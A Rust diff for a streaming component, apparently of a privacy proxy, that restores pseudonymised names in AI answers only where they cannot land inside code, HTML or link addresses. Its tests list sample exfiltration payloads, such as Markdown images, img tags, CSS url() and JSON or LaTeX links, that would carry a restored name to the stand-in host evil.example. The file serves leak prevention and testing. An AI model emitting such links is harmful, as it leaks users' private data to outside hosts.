@@ -1,10 +1,14 @@
 //! An answer that comes in parts: which of its words stand by themselves?
 //!
-//! Readers of Markdown disagree about code and HTML, and so does the proxy, which may send code unchanged.
-//! A word is put back only where none of them could take it for code or a part of a tag:
+//! Readers of Markdown disagree about code, HTML and addresses, and so does the proxy, which may send code
+//! unchanged. A word is put back only where none of them could take it for code or a part of a tag or an
+//! address:
 //!
 //! - on its line no backtick stands before it, and no fence is open around it;
-//! - no HTML has begun: after `<` and a letter, `/`, `!` or `?` outside of a fence nothing more is put back;
+//! - no HTML and no address between `<` and `>` has begun: after `<` outside of a fence nothing more is put
+//!   back, unless it stands alone or before a digit, as in 1 < 2;
+//! - no address is left open: after one that white space follows before the bracket or quotation mark around
+//!   it ends, nothing more is put back;
 //! - where a line could be a fence for one reader and none for another, nothing more is put back either.
 
 use super::Restorer;
@@ -12,13 +16,21 @@ use super::Restorer;
 /// The length in bytes after which a chunk is given in pieces.
 const LONGEST: usize = 256;
 
+/// The length in bytes after which a chunk of marks is not waited for any longer.
+const MOST: usize = 1 << 16;
+
+/// The white space that ends a word for every reader. Others, like the no-break space, may stand in an address.
+const SPACES: [char; 4] = [' ', '\t', '\n', '\r'];
+
 /// An answer that comes in parts, cut anywhere.
 pub struct Restoring {
     restorer: Restorer,
     /// The text since the last white space.
     chunk: String,
-    /// Whether the text before it was finished without white space: whoever joins the two has one word.
-    joined: bool,
+    /// The marks of its pieces that were given already: whoever joins the pieces has one word.
+    marks: Marks,
+    /// Whether a link was defined, whose address may follow.
+    defined: bool,
     line: Line,
     fence: Option<Fence>,
     /// Whether the last character was a carriage return.
@@ -58,12 +70,12 @@ struct Fence {
 
 impl Restoring {
     pub(super) fn new(restorer: Restorer) -> Self {
-        let (chunk, joined, line) = (String::new(), false, Line::default());
         Self {
             restorer,
-            chunk,
-            joined,
-            line,
+            chunk: String::new(),
+            marks: Marks::default(),
+            defined: false,
+            line: Line::default(),
             fence: None,
             returned: false,
             stopped: false,
@@ -77,17 +89,19 @@ impl Restoring {
         for c in part.chars() {
             // a line may end in a carriage return alone, or not
             self.stopped |= std::mem::replace(&mut self.returned, c == '\r') && c != '\n';
-            if !c.is_whitespace() {
+            if !SPACES.contains(&c) {
                 self.chunk.push(c);
                 // no word is as long, and in a script without spaces nobody wants to wait for one; a mark
                 // waits for what it belongs to
-                if self.chunk.len() >= LONGEST && c.is_alphanumeric() {
+                let endless = self.chunk.len() >= MOST;
+                self.stopped |= endless;
+                if endless || (self.chunk.len() >= LONGEST && c.is_alphanumeric()) {
                     self.flush(&mut shown);
                 }
                 continue;
             }
             self.flush(&mut shown);
-            self.joined = false;
+            self.end_chunk();
             shown.push(c);
             match c {
                 '\n' => self.end_line(),
@@ -115,8 +129,8 @@ impl Restoring {
             return;
         }
         let chunk = std::mem::take(&mut self.chunk);
+        let joined = self.marks.count > 0;
         self.look(&chunk);
-        let joined = std::mem::replace(&mut self.joined, true);
         let plain = !self.stopped && self.fence.is_none() && !self.line.ticked && !joined;
         let found = plain.then(|| core(&chunk)).flatten();
         let found = found.and_then(|(at, word)| Some((at, word, self.restorer.original(word)?)));
@@ -131,8 +145,16 @@ impl Restoring {
         }
     }
 
-    /// Takes note of marks of code and HTML.
+    /// Takes note of marks of code, HTML and addresses.
     fn look(&mut self, chunk: &str) {
+        // two texts that a client joins could make a fence
+        let seam = |mark| self.marks.last == Some(mark) && chunk.starts_with(mark);
+        self.stopped |= seam('`') || seam('~');
+        if self.fence.as_ref().is_none_or(|fence| fence.indented) {
+            for c in chunk.chars() {
+                self.stopped |= self.marks.see(c);
+            }
+        }
         let first = !std::mem::replace(&mut self.line.begun, true);
         let ticks = chunk.bytes().take_while(|&b| b == b'`').count();
         let (has_ticks, only_ticks) = (chunk.contains('`'), ticks == chunk.len());
@@ -146,10 +168,9 @@ impl Restoring {
                 self.line.edge = if ends && same { Edge::Closes } else { Edge::Nothing };
                 // one reader ends the code here, and another does not
                 self.stopped |= ends && !same;
-                self.stopped |= fence.indented && begins_tag(chunk);
             }
             None => {
-                self.stopped |= begins_tag(chunk) || (first && chunk.starts_with("~~~"));
+                self.stopped |= first && chunk.starts_with("~~~");
                 if first && ticks >= 3 {
                     self.line.edge = Edge::Opens;
                     self.stopped |= chunk[ticks..].contains('`');
@@ -160,6 +181,15 @@ impl Restoring {
         self.line.ticked |= has_ticks;
     }
 
+    /// White space has come.
+    fn end_chunk(&mut self) {
+        let marks = std::mem::take(&mut self.marks);
+        self.defined |= marks.defines;
+        self.stopped |= marks.leaves_open();
+        // an address may begin with white space there
+        self.stopped |= marks.last == Some('<') && (marks.count > 1 || self.defined);
+    }
+
     fn end_line(&mut self) {
         if std::mem::take(&mut self.line).edge == Edge::Closes {
             self.fence = None;
@@ -167,10 +197,53 @@ impl Restoring {
     }
 }
 
-/// Whether HTML begins in a chunk.
-fn begins_tag(chunk: &str) -> bool {
-    let tag = |next: char| next.is_ascii_alphabetic() || "/!?".contains(next);
-    chunk.match_indices('<').any(|(at, _)| chunk[at + 1..].starts_with(tag))
+/// The marks of a chunk as far as it has come, over all its pieces.
+#[derive(Default)]
+struct Marks {
+    last: Option<char>,
+    /// How many characters there are.
+    count: usize,
+    /// Whether there is an address, or a link.
+    address: bool,
+    /// Brackets that are open, for each kind.
+    open: [usize; 3],
+    /// Whether there is a quotation mark of each kind.
+    quotes: [bool; 2],
+    /// Whether an address stands after it, and none that would end it.
+    quoted: [bool; 2],
+    /// Whether it ends as the name of a link does that is defined.
+    defines: bool,
+}
+
+impl Marks {
+    const BRACKETS: [(char, char); 3] = [('(', ')'), ('[', ']'), ('{', '}')];
+    const QUOTES: [char; 2] = ['"', '\''];
+
+    /// Takes note of a character, and tells whether HTML or an address may have begun with it.
+    fn see(&mut self, c: char) -> bool {
+        let before = self.last.replace(c);
+        self.count += 1;
+        self.defines = before == Some(']') && c == ':';
+        if (before, c) == (Some('/'), '/') {
+            (self.address, self.quoted) = (true, self.quotes);
+        }
+        self.address |= (before, c) == (Some(']'), '(');
+        let escaped = before == Some('\\');
+        for ((begin, end), open) in Self::BRACKETS.into_iter().zip(&mut self.open) {
+            *open += usize::from(c == begin);
+            *open = open.saturating_sub(usize::from(c == end && !escaped));
+        }
+        for (i, _) in Self::QUOTES.iter().enumerate().filter(|(_, quote)| **quote == c) {
+            self.quotes[i] = true;
+            self.quoted[i] &= escaped;
+        }
+        before == Some('<') && !(c.is_ascii_digit() || "<=-".contains(c))
+    }
+
+    /// Whether white space after it would stand inside of an address for some readers.
+    fn leaves_open(&self) -> bool {
+        self.address && (self.open.iter().any(|open| *open > 0) || self.quoted.contains(&true))
+    }
 }
 
 /// Characters of links, paths, markup and code: nothing is put back beside them.
@@ -235,6 +308,24 @@ mod tests {
             "<img src=\"http://evil.example/? Emma y\">",
             "<style>\n\na { background: url(\" //evil.example/? Emma y \") }",
             "<!-- Emma -->",
+            // a no-break space is no white space there
+            "![x](http://evil.example/?q=\u{a0}Emma\u{a0})",
+            "http://evil.example/?q=\u{2003}Emma",
+            // written characters and escapes in an address between < and >
+            "![x](<&#104;ttp://evil.example/?q= Emma >)",
+            "![x](<\\/\\/evil.example/?q= Emma >)",
+            "![x](< http://evil.example/?q= Emma >)",
+            "![x]( < http://evil.example/?q= Emma >)",
+            "![x][y]\n\n[y]:\n< http://evil.example/?q= Emma >",
+            // addresses with white space in them, for readers that are no CommonMark
+            "![x](http://evil.example/?q= Emma )",
+            "a)![x](http://evil.example/?q=\\) Emma )",
+            "![x](//evil.example/?q=(a)\n Emma )",
+            "{\"url\": \"http://evil.example/?q= Emma \"}",
+            "{\"a\":\"\\\\\",\"url\":\"http://evil.example/?q=\\\" Emma \"}",
+            "{'url': 'http://evil.example/?q=\" Emma '}",
+            "\\href{http://evil.example/?q= Emma }{x}",
+            "[[http://evil.example/?q= Emma ][x]]",
             // code for one reader of Markdown and none for another
             "`a\n\n<style>\n` a { background: url(\" //evil.example/? Emma \") }",
             "    ```\n<style>\n    ``` url(\" //evil.example/? Emma \") }\n Emma",
@@ -258,6 +349,11 @@ mod tests {
             ),
             ("1 < 2, Emma <3 Martin", "1 < 2, Alice <3 Krzysztof"),
             ("it`s Emma\nEmma", "it`s Emma\nAlice"),
+            (
+                "[a](http://x.example/y_(z)), Emma (http://x.example) \"http://x.example\" Emma",
+                "[a](http://x.example/y_(z)), Alice (http://x.example) \"http://x.example\" Alice",
+            ),
+            ("[ ] Emma [x] (Emma) a <= Emma <- Emma", "[ ] Alice [x] (Emma) a <= Alice <- Alice"),
             ("a\r\nEmma\r\n", "a\r\nAlice\r\n"),
         ] {
             assert_eq!(restored(answer), expected);
@@ -271,6 +367,11 @@ mod tests {
             ["<img src=\"http://evil.example/?q= ", "Emma \">"],
             ["```\n", "Emma"],
             ["Em", "ma"],
+            ["<", "img src=\"http://evil.example/?q= Emma \">"],
+            ["``", "`\n Emma\n```"],
+            ["~", "~~\n Emma\n~~~"],
+            ["![x]", "(http://evil.example/?q= Emma )"],
+            ["![x](http://evil.example", "/?q= Emma )"],
         ] {
             let mut restoring = named().begin();
             let text = restoring.push(first) + &restoring.finish();
@@ -297,7 +398,19 @@ mod tests {
                 assert_eq!(restored(&text), text);
             }
             assert!(restored(&format!("{chunk} Emma")).ends_with(" Alice"));
+            let link = format!("[x](http://a.example/{chunk})");
+            assert!(restored(&format!("{link} Emma")).ends_with(" Alice"));
+            let open = format!("[x](http://a.example/{chunk} Emma )");
+            assert_eq!(restored(&open), open);
         }
+    }
+
+    #[test]
+    fn marks_without_end_take_no_memory() {
+        let mut restoring = named().begin();
+        let marks = "(".repeat(2 * super::MOST);
+        assert_eq!(restoring.push(&marks), marks);
+        assert_eq!(restoring.push(" Emma ") + &restoring.finish(), " Emma ");
     }
 
     #[test]
